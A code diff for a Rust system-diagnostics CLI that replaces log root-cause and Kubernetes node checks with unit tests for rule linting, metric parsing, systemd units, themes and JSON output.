-                println!("  {}", stylize_insight(&event));
-            }
-        }
-    } else {
-        println!("  {}", t!("rca_logs_missing").to_string().yellow());
+    #[test]
+    fn test_lint_rules_flags_overlaps() {
+        let rule = |name: &str, trigger: &str| Rule {
+            name: name.to_string(),
+            trigger: trigger.to_string(),
+            message: String::new(),
+            solution: String::new(),
+            severity: 5,
+            auto_fix: None,
+            history: true,
+            actionable: None,
+        };
+        let rules = vec![
+            rule("high_cpu", "cpu>90 && mem>80"),
+            rule("high_cpu_copy", "mem>80&&cpu> 90"),
+            rule("hot_cpu", "cpu>90 && mem>80 && temp>85"),
+            rule("disk_full", "disk_full>90"),
+            rule("high_cpu_grouped", "(cpu>90 && mem>80)"),
+            rule("nvidia_hot", "gpu_vendor=NVIDIA && gpu_temp>85"),
+            rule("nvidia_hot_copy", "gpu_temp>85 && gpu_vendor=nvidia"),
+        ];
+        let overlaps = lint_rules(&rules);
+        assert!(overlaps.contains(&RuleOverlap::Duplicate {
+            first: "high_cpu".into(),
+            second: "high_cpu_copy".into(),
+        }));
+        assert!(overlaps.contains(&RuleOverlap::Subsumed {
+            broad: "high_cpu".into(),
+            narrow: "hot_cpu".into(),
+        }));
+        assert!(overlaps.contains(&RuleOverlap::Duplicate {
+            first: "high_cpu".into(),
+            second: "high_cpu_grouped".into(),
+        }));
+        assert!(overlaps.contains(&RuleOverlap::Subsumed {
+            broad: "high_cpu_grouped".into(),
+            narrow: "hot_cpu".into(),
+        }));
+        assert!(overlaps.contains(&RuleOverlap::Duplicate {
+            first: "nvidia_hot".into(),
+            second: "nvidia_hot_copy".into(),
+        }));
+        assert!(!format!("{overlaps:?}").contains("disk_full"));
+
+        assert_eq!(invalid_trigger_tokens("cpu>90 && cpu>>"), vec!["cpu>>"]);
+        assert!(invalid_trigger_tokens("disk_full>90").is_empty());
+        assert_eq!(invalid_trigger_tokens("disk>90"), vec!["disk>90"]);
     }
-    Ok(())
-}
 
-struct RcaPattern {
-    label: &'static str,
-    keywords: &'static [&'static str],
-    level: InsightLevel,
-}
+    #[test]
+    fn test_finding_id_bands_the_value() {
+        assert_eq!(finding_id("baloo_running", None, 0), "baloo_running");
+        assert_eq!(
+            finding_id("nfs_stale", Some("/mnt/nas"), 0),
+            "nfs_stale@/mnt/nas"
+        );
+        assert_eq!(
+            finding_id("gaming_gpu_hot", Some("RTX 3080"), 2),
+            "gaming_gpu_hot@RTX 3080#2"
+        );
 
-const RCA_PATTERNS: &[RcaPattern] = &[
-    RcaPattern {
-        label: "OOM killer invoked",
-        keywords: &["oom-killer", "out of memory"],
-        level: InsightLevel::Critical,
-    },
-    RcaPattern {
-        label: "Kernel panic / BUG",
-        keywords: &["kernel panic", "fatal exception", "call trace", "bug:"],
-        level: InsightLevel::Critical,
-    },
-    RcaPattern {
-        label: "Hardware machine check",
-        keywords: &["machine check", "mce:"],
-        level: InsightLevel::Critical,
-    },
-    RcaPattern {
-        label: "Thermal throttling",
-        keywords: &["thermal throttling", "cpu thermal", "throttled"],
-        level: InsightLevel::Warning,
-    },
-    RcaPattern {
-        label: "GPU reset or fault",
-        keywords: &["gpu hang", "gpu reset", "amdgpu", "i915 error"],
-        level: InsightLevel::Warning,
-    },
-    RcaPattern {
-        label: "Disk I/O errors",
-        keywords: &["i/o error", "blk_update_request", "end_request"],
-        level: InsightLevel::Critical,
-    },
-    RcaPattern {
-        label: "Btrfs checksum errors",
-        keywords: &["btrfs", "checksum error"],
-        level: InsightLevel::Warning,
-    },
-    RcaPattern {
-        label: "Watchdog reset",
-        keywords: &["watchdog", "hard lockup", "soft lockup"],
-        level: InsightLevel::Critical,
-    },
-];
+        // Same rule and metrics through the evaluator give the same ID
+        let rules = vec![(
+            parse_trigger("cpu>80"),
+            Rule {
+                name: "high_cpu".to_string(),
+                trigger: "cpu>80".to_string(),
+                message: "CPU busy".to_string(),
+                solution: "n/a".to_string(),
+                severity: 6,
+                auto_fix: None,
+                history: true,
+                actionable: None,
+            },
+        )];
+        let metrics = |cpu| Metrics {
+            cpu_usage: Some(cpu),
+            ..Default::default()
+        };
+        let id = |cpu| evaluate_rules(&metrics(cpu), &rules)[0].id.clone();
+        // Small moves stay within a band
+        assert_eq!(id(85.0), "high_cpu");
+        assert_eq!(id(85.0), id(99.0));
+        // A value far past the threshold is a different finding
+        let low_threshold = vec![(parse_trigger("cpu>20"), rules[0].1.clone())];
+        let id = |cpu| evaluate_rules(&metrics(cpu), &low_threshold)[0].id.clone();
+        assert_eq!(id(25.0), "high_cpu");
+        assert_eq!(id(45.0), "high_cpu#2");
+        assert_ne!(id(25.0), id(95.0));
+        assert_eq!(id(95.0), "high_cpu#4");
+        let disk = parse_trigger("disk_full>90");
+        let full = |percent| Metrics {
+            disk_full_percent: percent,
+            ..Default::default()
+        };
+        assert_eq!(
+            finding_band(&disk, &full(91.0)),
+            finding_band(&disk, &full(100.0))
+        );
+        // Count thresholds of 0 still band, one unit at a time
+        let restarts = parse_trigger("unit_restarts>0");
+        let restarted = |count| Metrics {
+            unit_restarts: Some(count),
+            ..Default::default()
+        };
+        assert_eq!(finding_band(&restarts, &restarted(1)), 1);
+        assert_eq!(finding_band(&restarts, &restarted(50)), FINDING_BAND_MAX);
+
+        // The device, not the reading, tells two findings of a rule apart
+        let hot_gpu = |model: &str, temperature| Metrics {
+            gpu: Some(GpuDetails {
+                model: Some(model.to_string()),
+                temperature: Some(temperature),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        let trigger = parse_trigger("gpu_temp>80");
+        let subject = |metrics: &Metrics| finding_subject(&trigger, metrics);
+        assert_eq!(
+            subject(&hot_gpu("RTX 3080", 85.0)),
+            subject(&hot_gpu("RTX 3080", 97.0))
+        );
+        assert_eq!(
+            subject(&hot_gpu("RTX 3080", 85.0)).as_deref(),
+            Some("RTX 3080")
+        );
+        let stale = Metrics {
+            stale_mounts: Some(vec!["/mnt/nas".to_string()]),
+            ..Default::default()
+        };
+        assert_eq!(
+            finding_subject(&parse_trigger("stale_mount=true"), &stale).as_deref(),
+            Some("/mnt/nas")
+        );
+        assert_eq!(finding_subject(&parse_trigger("cpu>80"), &stale), None);
+    }
 
-fn extract_rca_events(logs: &str) -> Vec<InsightLine> {
-    let mut events = Vec::new();
-    for line in logs.lines().rev() {
-        let trimmed = line.trim();
-        if trimmed.is_empty() {
-            continue;
-        }
-        let lower = trimmed.to_ascii_lowercase();
-        for pattern in RCA_PATTERNS {
-            if pattern.keywords.iter().any(|needle| lower.contains(needle)) {
-                events.push(InsightLine {
-                    level: pattern.level,
-                    message: format!("{} — {}", pattern.label, truncate(trimmed, 110)),
-                });
-                break;
-            }
-        }
-        if events.len() >= RCA_EVENT_LIMIT {
-            break;
+    #[test]
+    fn test_rca_matches_clocksource_instability() {
+        let logs = "Oct 14 09:12:01 host kernel: clocksource: timekeeping watchdog on CPU3: Marking clocksource 'tsc' as unstable because the skew is too large\n\
+                    Oct 14 09:12:01 host kernel: TSC unstable due to BIOS bug\n\
+                    Oct 14 09:12:02 host kernel: clocksource: Switched to clocksource hpet\n\
+                    Oct 14 08:00:00 host kernel: clocksource: Switched to clocksource tsc";
+        let events = extract_rca_events(logs);
+        assert_eq!(events.len(), 3);
+        for event in &events {
+            assert!(event.message.starts_with(CLOCKSOURCE_RCA_LABEL));
+            assert!(matches!(event.level, InsightLevel::Warning));
         }
-    }
-    events
-}
 
-fn last_boot_string() -> Option<String> {
-    let output = Command::new("who").arg("-b").output().ok()?;
-    if !output.status.success() {
-        return None;
+        assert!(matches!(
+            clocksource_insight("hpet").level,
+            InsightLevel::Warning
+        ));
+        assert!(matches!(
+            clocksource_insight("tsc").level,
+            InsightLevel::Info
+        ));
     }
-    let text = String::from_utf8_lossy(&output.stdout);
-    text.lines()
-        .next()
-        .map(|line| line.trim().to_string())
-        .filter(|line| !line.is_empty())
-}
 
-fn human_duration(duration: Duration) -> String {
-    let seconds = duration.as_secs();
-    let days = seconds / 86_400;
-    let hours = (seconds % 86_400) / 3_600;
-    let minutes = (seconds % 3_600) / 60;
-    let mut parts = Vec::new();
-    if days > 0 {
-        parts.push(format!("{days}d"));
-    }
-    if hours > 0 {
-        parts.push(format!("{hours}h"));
-    }
-    if minutes > 0 {
-        parts.push(format!("{minutes}m"));
+    #[test]
+    fn test_dump_metrics_is_bare_metrics_json() {
+        let metrics = Metrics {
+            cpu_usage: Some(42.5),
+            ..Default::default()
+        };
+        let json: serde_json::Value =
+            serde_json::from_str(&output::to_json(&metrics, false).unwrap()).unwrap();
+        assert_eq!(json["cpu_usage"], 42.5);
+        assert!(json.get("findings").is_none());
+        assert!(json.get("schema_version").is_none());
     }
-    if parts.is_empty() {
-        parts.push(format!("{}s", seconds));
+
+    #[test]
+    fn test_probes_are_gated_by_command() {
+        let sys = System::new();
+        let ran = |command: Commands| {
+            let mut ran = Vec::new();
+            Metrics::gather_with(&sys, probes_for(&command), |probe, _| ran.push(probe));
+            ran
+        };
+
+        let cpu = ran(Commands::Cpu);
+        assert!(!cpu.contains(&Probe::Wifi));
+        assert!(!cpu.contains(&Probe::Battery));
+        assert!(!cpu.contains(&Probe::Docker));
+        assert_eq!(ran(Commands::Wifi), vec![Probe::Wifi]);
+        assert_eq!(ran(Commands::All), BROAD_PROBES.to_vec());
+        assert_eq!(ran(Commands::Slow), ALL_PROBES.to_vec());
+        assert_eq!(
+            ran(Commands::Boot { previous: false }),
+            vec![Probe::Restarts]
+        );
+        assert!(ran(Commands::Services).contains(&Probe::Restarts));
     }
-    parts.join(" ")
-}
 
-fn why_kube_node() -> Result<()> {
-    println!("{}", t!("kube_node_header").to_string().bold());
+    #[test]
+    fn test_net_interface_scoping() {
+        let proc_net_dev = "Inter-|   Receive                                                |  Transmit
+ face |bytes    packets errs drop fifo frame compressed multicast|bytes    packets errs drop fifo colls carrier compressed
+    lo:  123456     800    0    0    0     0          0         0   123456     800    0    0    0     0       0          0
+  eth0: 9876543   12000    0    0    0     0          0        10  1234567    9000    0    0    0     0       0          0
+wlan0:   55555     300    0    0    0     0          0         0    44444     200    0    0    0     0       0          0
+";
+        let stats = parse_proc_net_dev(proc_net_dev);
+        assert_eq!(stats.len(), 3);
+
+        let scoped = scope_interfaces(stats.clone(), Some("eth0")).unwrap();
+        assert_eq!(scoped.len(), 1);
+        assert_eq!(scoped[0].rx_bytes, 9876543);
+        assert_eq!(scoped[0].tx_bytes, 1234567);
+        assert!(scope_interfaces(stats.clone(), Some("eth9")).is_err());
+
+        let all: Vec<String> = scope_interfaces(stats, None)
+            .unwrap()
+            .into_iter()
+            .map(|s| s.name)
+            .collect();
+        assert_eq!(all, vec!["eth0", "wlan0"]);
+
+        let ss = "0 0 192.168.1.20:22 192.168.1.5:51234\n\
+                  0 0 10.8.0.2:443 10.8.0.1:40000\n\
+                  0 0 [fe80::1%eth0]:22 [fe80::2%eth0]:50000\n";
+        let addresses = vec!["192.168.1.20".to_string(), "fe80::1".to_string()];
+        assert_eq!(count_connections_on(ss, &addresses), 2);
+    }
 
-    let kubelet_header = t!("kube_node_kubelet_header").to_string();
-    print_section(&kubelet_header, Ok(vec![kubelet_status_line()]));
+    #[test]
+    fn test_interface_errors_and_drops() {
+        let proc_net_dev = "Inter-|   Receive                                                |  Transmit
+ face |bytes    packets errs drop fifo frame compressed multicast|bytes    packets errs drop fifo colls carrier compressed
+  eth0: 9876543   12000    0    0    0     0          0        10  1234567    9000    0    0    0     0       0          0
+wlan0:   55555     300    7  412    0     0          0         0    44444     200    1    3    0     0       0          0
+";
+        let stats = parse_proc_net_dev(proc_net_dev);
+        assert_eq!(
+            stats[1],
+            InterfaceStats {
+                name: "wlan0".to_string(),
+                rx_bytes: 55555,
+                tx_bytes: 44444,
+                rx_errors: 7,
+                rx_drops: 412,
+                tx_errors: 1,
+                tx_drops: 3,
+            }
+        );
+        let lines = interface_error_lines(&stats);
+        assert_eq!(lines.len(), 1);
+        assert!(matches!(lines[0].level, InsightLevel::Warning));
+        assert!(lines[0].message.contains("wlan0") && lines[0].message.contains("412"));
+        assert!(matches!(
+            interface_error_lines(&stats[..1])[0].level,
+            InsightLevel::Good
+        ));
 
-    let runtime_header = t!("kube_node_runtime_header").to_string();
-    print_section(&runtime_header, gather_runtime_lines());
+        let netstat = "\
+Name  Mtu   Network       Address            Ipkts Ierrs     Ibytes    Opkts Oerrs     Obytes  Coll
+lo0   16384 <Link#1>                        190000     0   52000000   190000     0   52000000     0
+lo0   16384 127           localhost         190000     -   52000000   190000     -   52000000     -
+en0   1500  <Link#6>    a4:83:e7:11:22:33  8000000    25 9000000000  4000000     2  600000000     0
+en0   1500  192.168.1     192.168.1.20     8000000     - 9000000000  4000000     -  600000000     -
+";
+        let stats = parse_netstat_ib(netstat);
+        assert_eq!(stats.len(), 2);
+        assert_eq!(stats[1].name, "en0");
+        assert_eq!(stats[1].rx_bytes, 9000000000);
+        assert_eq!(stats[1].rx_errors, 25);
+        assert_eq!(stats[1].tx_errors, 2);
+        assert_eq!(stats[0].errors_and_drops(), 0);
+    }
 
-    let pressure_header = t!("kube_node_pressure_header").to_string();
-    print_section(&pressure_header, gather_pressure_lines());
+    #[test]
+    fn test_parse_inhibitors() {
+        let output = "\
+WHO            UID  USER  PID  COMM           WHAT                                WHY                                 MODE
+NetworkManager 0    root  812  NetworkManager sleep                               NetworkManager needs to turn off ne delay
+GNOME Shell    1000 alex  1984 gnome-shell    sleep                               GNOME needs to lock the screen      delay
+Firefox        1000 alex  3456 firefox        idle                                audio-playing                       block
+caffeine       1000 alex  4021 caffeine-ng    idle:sleep                          Manually inhibited                  block
+
+4 inhibitors listed.
+";
+        let inhibitors = parse_inhibitors(output);
+        assert_eq!(inhibitors.len(), 4);
+        assert_eq!(inhibitors[1].who, "GNOME Shell");
+        assert_eq!(inhibitors[1].why, "GNOME needs to lock the screen");
+
+        let blocking: Vec<&str> = inhibitors
+            .iter()
+            .filter(|i| i.blocks_sleep())
+            .map(|i| i.who.as_str())
+            .collect();
+        assert_eq!(blocking, vec!["Firefox", "caffeine"]);
+        assert_eq!(inhibitors[3].pid, Some(4021));
+        assert!(parse_inhibitors("").is_empty());
+    }
 
-    let logs_header = t!("kube_node_kubelet_logs").to_string();
-    print_section(&logs_header, gather_kubelet_warnings());
+    #[test]
+    fn test_theme_changes_insight_style() {
+        let line = InsightLine {
+            level: InsightLevel::Warning,
+            message: "disk almost full".to_string(),
+        };
+        let color = |theme: theme::Theme| theme.paint(&line).fgcolor;
 
-    let pods_header = t!("kube_node_pod_header").to_string();
-    print_section(&pods_header, gather_problem_pods(8));
+        assert_eq!(color(theme::Theme::Default), Some(colored::Color::Yellow));
+        assert_eq!(color(theme::Theme::Light), Some(colored::Color::Magenta));
+        assert_eq!(
+            color(theme::Theme::HighContrast),
+            Some(colored::Color::BrightYellow)
+        );
+        assert_ne!(
+            color(theme::Theme::ColorblindSafe),
+            color(theme::Theme::Default)
+        );
+        assert_ne!(
+            theme::Theme::Light.sparklines(),
+            theme::Theme::Default.sparklines()
+        );
+        let config = config::parse_config("theme = \"colorblind-safe\"").unwrap();
+        assert_eq!(config.theme, Some(theme::Theme::ColorblindSafe));
+    }
 
-    Ok(())
-}
+    #[test]
+    fn test_dump_usage_sums_core_files() {
+        let dir = std::env::temp_dir().join(format!("why-cores-{}", std::process::id()));
+        fs::create_dir_all(dir.join("core.99")).unwrap();
+        fs::write(dir.join("core"), vec![0u8; 1000]).unwrap();
+        fs::write(dir.join("core.4242"), vec![0u8; 2500]).unwrap();
+        fs::write(dir.join("core.txt"), vec![0u8; 7]).unwrap();
+        fs::write(dir.join("notes"), vec![0u8; 11]).unwrap();
+
+        let cores = dump_usage(&dir, is_core_file_name);
+        assert_eq!(
+            cores,
+            DumpUsage {
+                count: 2,
+                bytes: 3500
+            }
+        );
+        let everything = dump_usage(&dir, |_| true);
+        assert_eq!(
+            everything,
+            DumpUsage {
+                count: 4,
+                bytes: 3518
+            }
+        );
+        assert_eq!(
+            dump_usage(&dir.join("missing"), |_| true),
+            DumpUsage::default()
+        );
 
-fn kubelet_status_line() -> InsightLine {
-    query_systemd_unit("kubelet", "kubelet").unwrap_or(InsightLine {
-        level: InsightLevel::Info,
-        message: t!("kube_node_kubelet_missing").to_string(),
-    })
-}
+        let trigger = parse_trigger("coredump_size_mb>1024");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            coredump_size_mb: Some(2048.0),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
+        // Cleans every tmpfiles.d path, not just the dumps: never a one-key fix
+        assert!(!is_safe_auto_fix("sudo systemd-tmpfiles --clean"));
+        let rules: RulesFile = toml::from_str(&fs::read_to_string("rules.toml").unwrap()).unwrap();
+        let rule = rules
+            .rule
+            .iter()
+            .find(|r| r.name == "coredumps_piling_up")
+            .unwrap();
+        assert_eq!(rule.auto_fix, None);
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
 
-fn gather_runtime_lines() -> SectionResult {
-    let mut lines = Vec::new();
-    for (unit, label) in [
-        ("containerd", "containerd"),
-        ("crio", "crio"),
-        ("docker", "dockerd"),
-    ] {
-        if let Some(line) = query_systemd_unit(unit, label) {
-            lines.push(line);
+    #[test]
+    fn test_negation_of_unset_metric_is_not_applicable() {
+        let unset = Metrics::default();
+        for trigger in [
+            "!cpu>90",
+            "!gpu_driver_mismatch=true",
+            "!hw_encoder_missing=true",
+            "!gpu_underclocked=true",
+            "!vulkan_loader_missing=true",
+            "!gpu_vendor=nvidia",
+            "!stale_mount=true",
+            "!steam_running=true",
+            "!filesystem=btrfs",
+            "!log_contains=segfault",
+        ] {
+            let trigger = parse_trigger(trigger);
+            assert_eq!(trigger.conditions().len(), 1, "{trigger:?}");
+            assert!(!trigger_holds(&trigger, &unset, None), "{trigger:?}");
         }
+        // Once gathered, the negation holds as usual
+        let gathered = Metrics {
+            vulkan_loader_missing: Some(false),
+            stale_mounts: Some(Vec::new()),
+            ..Default::default()
+        };
+        assert!(trigger_holds(
+            &parse_trigger("!vulkan_loader_missing=true"),
+            &gathered,
+            None
+        ));
+        assert!(trigger_holds(
+            &parse_trigger("!stale_mount=true"),
+            &gathered,
+            None
+        ));
+        assert!(trigger_holds(
+            &parse_trigger("!log_contains=segfault"),
+            &gathered,
+            Some("all quiet")
+        ));
     }
-    if lines.is_empty() {
-        Err(t!("kube_node_runtime_missing").to_string())
-    } else {
-        Ok(lines)
+
+    #[test]
+    fn test_average_metrics_over_samples() {
+        let sample = |cpu: f32, temperature_c, steam: bool, docker_dangling| Metrics {
+            cpu_usage: Some(cpu),
+            temperature_c,
+            steam_running: Some(steam),
+            docker_dangling,
+            wayland_vs_x11: Some("wayland".to_string()),
+            ..Default::default()
+        };
+        let averaged = average_metrics(vec![
+            sample(90.0, Some(70.0), false, Some(3)),
+            sample(10.0, None, true, Some(4)),
+            sample(20.0, Some(80.0), false, None),
+        ]);
+        assert!((averaged.cpu_usage.unwrap() - 40.0).abs() < FP_PRECISION_THRESHOLD);
+        // Missing readings don't drag the mean down
+        assert_eq!(averaged.temperature_c, Some(75.0));
+        assert_eq!(averaged.steam_running, Some(true));
+        assert_eq!(averaged.docker_dangling, Some(4));
+        assert_eq!(averaged.battery_drain_w, None);
+        assert_eq!(averaged.wayland_vs_x11.as_deref(), Some("wayland"));
+
+        let single = average_metrics(vec![sample(55.0, Some(60.0), false, None)]);
+        assert_eq!(single.cpu_usage, Some(55.0));
+        assert_eq!(single.temperature_c, Some(60.0));
     }
-}
 
-fn gather_pressure_lines() -> SectionResult {
-    let mut lines = Vec::new();
-    for resource in ["cpu", "memory", "io"] {
-        if let Some((some, full)) = read_pressure(resource) {
-            let mut message = format!(
-                "{}: avg10={:.2}% avg60={:.2}% avg300={:.2}%",
-                resource.to_uppercase(),
-                some.avg10,
-                some.avg60,
-                some.avg300
-            );
-            if let Some(full_stats) = full {
-                message.push_str(&format!(" | full avg10={:.2}%", full_stats.avg10));
-            }
-            let critical = some.avg10 > 0.80
-                || full
-                    .as_ref()
-                    .map(|entry| entry.avg10 > 0.40)
-                    .unwrap_or(false);
-            let warning = some.avg10 > 0.30 || some.avg60 > 0.45;
-            lines.push(InsightLine {
-                level: if critical {
-                    InsightLevel::Critical
-                } else if warning {
-                    InsightLevel::Warning
-                } else {
-                    InsightLevel::Info
-                },
-                message,
-            });
+    #[test]
+    fn test_cpu_usage_needs_two_spaced_refreshes() {
+        let calls = std::cell::RefCell::new(Vec::new());
+        let sampled = resample_cpu(
+            probes_for(&Commands::Hot),
+            || calls.borrow_mut().push("refresh".to_string()),
+            |pause| calls.borrow_mut().push(format!("sleep {pause:?}")),
+        );
+        let sleep = format!("sleep {:?}", sysinfo::MINIMUM_CPU_UPDATE_INTERVAL);
+        assert!(sampled);
+        assert_eq!(calls.into_inner(), vec![sleep.as_str(), "refresh"]);
+
+        // Commands that never show CPU load skip the window
+        for command in [Commands::Disk, Commands::Oom, Commands::Update] {
+            assert!(!resample_cpu(
+                probes_for(&command),
+                || panic!("refreshed"),
+                |_| panic!("slept"),
+            ));
         }
+        assert!(resample_cpu(ALL_PROBES, || {}, |_| {}));
+
+        // Nor do their later --repeat samples
+        let (repeated, _) = gather_samples(
+            &mut System::new(),
+            &[],
+            2,
+            Duration::ZERO,
+            None,
+            None,
+            false,
+        );
+        assert_eq!(repeated.cpu_usage, None);
+
+        // An unsampled run has no CPU reading, not a 0% one
+        let unsampled = Metrics::default();
+        assert!(!condition_holds(&Condition::CpuLess(5.0), &unsampled, None));
+        assert!(!condition_holds(
+            &Condition::CpuGreater(0.0),
+            &unsampled,
+            None
+        ));
+        assert_eq!(cpu_percent_label(&unsampled), "n/a");
+        let rendered =
+            output::render(OutputFormat::Json, &[], &unsampled, &[], None, false).unwrap();
+        let parsed: serde_json::Value = serde_json::from_str(&rendered).unwrap();
+        assert!(parsed["metrics"]["cpu_usage"].is_null());
     }
-    if lines.is_empty() {
-        Err(t!("kube_node_pressure_missing").to_string())
-    } else {
-        Ok(lines)
+
+    #[test]
+    fn test_parse_vainfo_encoders() {
+        let vainfo = "Trying display: wayland
+vainfo: VA-API version: 1.20 (libva 2.20.1)
+vainfo: Driver version: Intel iHD driver for Intel(R) Gen Graphics - 24.1.0
+vainfo: Supported profile and entrypoints
+      VAProfileNone                   :\tVAEntrypointVideoProc
+      VAProfileMPEG2Main              :\tVAEntrypointVLD
+      VAProfileH264Main               :\tVAEntrypointVLD
+      VAProfileH264Main               :\tVAEntrypointEncSlice
+      VAProfileH264Main               :\tVAEntrypointEncSliceLP
+      VAProfileH264High               :\tVAEntrypointVLD
+      VAProfileH264High               :\tVAEntrypointEncSliceLP
+      VAProfileHEVCMain               :\tVAEntrypointVLD
+";
+        let profiles = parse_vainfo_encoders(vainfo);
+        assert_eq!(profiles, vec!["VAProfileH264Main", "VAProfileH264High"]);
+
+        let decode_only = "vainfo: Supported profile and entrypoints
+      VAProfileH264Main               :\tVAEntrypointVLD
+      VAProfileVP9Profile0            :\tVAEntrypointVLD
+";
+        assert!(parse_vainfo_encoders(decode_only).is_empty());
+
+        assert_eq!(
+            parse_nvenc_stats(
+                "NVIDIA GeForce RTX 3080, 550.54.14, 61, 97, 8000, 10240, 45, 705, 2100, 9501, 9501, 2\n"
+            ),
+            vec![HwEncoder::Nvenc {
+                gpu: "NVIDIA GeForce RTX 3080".to_string(),
+                sessions: 2
+            }]
+        );
+        let trigger = parse_trigger("hw_encoder_missing=true");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            hw_encoder_missing: Some(true),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
+        assert!(!condition_holds(conditions[0], &Metrics::default(), None));
     }
-}
 
-fn gather_kubelet_warnings() -> SectionResult {
-    if !is_command_available("journalctl") {
-        return Err(t!("kube_node_logs_missing").to_string());
+    #[test]
+    fn test_process_cap_keeps_true_count() {
+        let processes: Vec<(f32, u64, &str)> = vec![
+            (0.0, 10, "Idle"),
+            (50.0, 100, "Firefox"),
+            (0.0, 900, "postgres"),
+            (12.0, 5, "cc1"),
+            (0.0, 1, "kworker"),
+        ];
+        let (names, memory, count) = process_metrics(processes.clone(), 0);
+        assert_eq!(names[..3], ["firefox", "cc1", "postgres"]);
+        assert_eq!(names.len(), 5);
+        assert_eq!(memory.len(), 5);
+        assert_eq!(count, 5);
+        assert_eq!(config::Config::default().max_processes, 1000);
+
+        // The cap limits the inspected set; the count stays exact
+        let (names, memory, count) = process_metrics(processes, 2);
+        assert_eq!(names, ["firefox", "cc1"]);
+        assert_eq!(memory.keys().collect::<Vec<_>>(), ["cc1", "firefox"]);
+        assert_eq!(count, 5);
+        let metrics = Metrics {
+            process_names: names,
+            process_memory_mb: memory,
+            process_count: count,
+            ..Default::default()
+        };
+        assert!(!condition_holds(
+            &parse_condition("process=postgres").unwrap(),
+            &metrics,
+            None
+        ));
+        assert!(condition_holds(
+            &parse_condition("process_count>4").unwrap(),
+            &metrics,
+            None
+        ));
     }
-    let output = Command::new("journalctl")
-        .args(["-u", "kubelet", "-p", "warning", "-n", "20", "--no-pager"])
-        .output()
-        .map_err(|_| t!("kube_node_logs_missing").to_string())?;
-    if !output.status.success() {
-        return Err(String::from_utf8_lossy(&output.stderr).trim().to_string());
+
+    #[test]
+    fn test_parse_failed_units() {
+        let failed = "\
+● nginx.service          loaded failed failed The nginx HTTP and reverse proxy server
+backup.mount           loaded failed failed /mnt/backup
+";
+        let units = parse_failed_units(failed);
+        assert_eq!(
+            units,
+            vec![
+                FailedUnit {
+                    unit: "nginx.service".to_string(),
+                    active_state: "failed".to_string(),
+                    sub_state: "failed".to_string(),
+                },
+                FailedUnit {
+                    unit: "backup.mount".to_string(),
+                    active_state: "failed".to_string(),
+                    sub_state: "failed".to_string(),
+                },
+            ]
+        );
+        let lines = failed_unit_lines(&units);
+        assert!(lines
+            .iter()
+            .all(|line| matches!(line.level, InsightLevel::Critical)));
+
+        // No failures: systemctl prints nothing with --no-legend
+        assert!(parse_failed_units("").is_empty());
+        let lines = failed_unit_lines(&[]);
+        assert_eq!(lines.len(), 1);
+        assert!(matches!(lines[0].level, InsightLevel::Good));
     }
-    let lines: Vec<InsightLine> = String::from_utf8_lossy(&output.stdout)
-        .lines()
-        .filter(|line| !line.trim().is_empty())
-        .take(8)
-        .map(|line| InsightLine {
-            level: InsightLevel::Warning,
-            message: truncate(line.trim(), 120),
-        })
-        .collect();
-    if lines.is_empty() {
-        Err(t!("kube_node_logs_clean").to_string())
-    } else {
-        Ok(lines)
+
+    #[test]
+    fn test_parse_unit_restarts() {
+        let show = "Id=nginx.service
+NRestarts=0
+ActiveState=active
+
+Id=flaky-worker.service
+NRestarts=37
+ActiveState=active
+
+Id=old.service
+ActiveState=inactive
+";
+        let units = parse_unit_restarts(show);
+        assert_eq!(
+            units,
+            vec![
+                UnitRestarts {
+                    unit: "nginx.service".to_string(),
+                    restarts: 0,
+                    active_state: "active".to_string(),
+                },
+                UnitRestarts {
+                    unit: "flaky-worker.service".to_string(),
+                    restarts: 37,
+                    active_state: "active".to_string(),
+                },
+            ]
+        );
+        let lines = restart_loop_lines(&units);
+        assert_eq!(lines.len(), 1);
+        assert!(matches!(lines[0].level, InsightLevel::Warning));
+        assert!(lines[0].message.contains("flaky-worker.service"));
+
+        let trigger = parse_trigger("unit_restarts>10");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            unit_restarts: Some(37),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
+        assert!(!condition_holds(conditions[0], &Metrics::default(), None));
+
+        // why services and the rule agree on what a loop is
+        let shipped: RulesFile = toml::from_str(include_str!("../rules.toml")).unwrap();
+        let rule = shipped
+            .rule
+            .iter()
+            .find(|rule| rule.name == "unit_restart_loop")
+            .unwrap();
+        assert_eq!(rule.trigger, format!("unit_restarts>{UNIT_RESTART_LOOP}"));
+        let at_threshold = UnitRestarts {
+            restarts: UNIT_RESTART_LOOP,
+            ..units[1].clone()
+        };
+        assert!(matches!(
+            restart_loop_lines(&[at_threshold])[0].level,
+            InsightLevel::Good
+        ));
     }
-}
 
-fn gather_problem_pods(limit: usize) -> SectionResult {
-    if !is_command_available("kubectl") {
-        return Err(t!("kube_node_pod_missing").to_string());
+    #[test]
+    fn test_output_dir_receives_snapshot() {
+        let dir = std::env::temp_dir()
+            .join(format!("why-output-{}", std::process::id()))
+            .join("nested");
+        let path = write_output_file(Some(&dir), "why-snapshot-test.json", "{}").unwrap();
+        assert_eq!(path, dir.join("why-snapshot-test.json"));
+        assert_eq!(fs::read_to_string(&path).unwrap(), "{}");
+        fs::remove_dir_all(dir.parent().unwrap()).unwrap();
     }
-    let output = Command::new("kubectl")
-        .args(["get", "pods", "--all-namespaces", "--no-headers"])
-        .output()
-        .map_err(|_| t!("kube_node_pod_missing").to_string())?;
-    if !output.status.success() {
-        return Err(String::from_utf8_lossy(&output.stderr).trim().to_string());
+
+    #[test]
+    fn test_compact_json_is_single_line() {
+        let metrics = Metrics {
+            cpu_usage: Some(12.5),
+            process_names: vec!["bash".to_string()],
+            ..Default::default()
+        };
+        let compact = output::to_json(&metrics, true).unwrap();
+        let pretty = output::to_json(&metrics, false).unwrap();
+        assert!(!compact.contains('\n'));
+        assert!(pretty.contains('\n'));
+        let reparsed: serde_json::Value = serde_json::from_str(&compact).unwrap();
+        assert_eq!(
+            reparsed,
+            serde_json::from_str::<serde_json::Value>(&pretty).unwrap()
+        );
+
+        let cli = Cli::try_parse_from(["why", "--format", "json", "--compact"]).unwrap();
+        let report = output::render(cli.format, &[], &metrics, &[], None, cli.compact).unwrap();
+        assert!(!report.contains('\n'));
     }
-    let mut lines = Vec::new();
-    for line in String::from_utf8_lossy(&output.stdout).lines() {
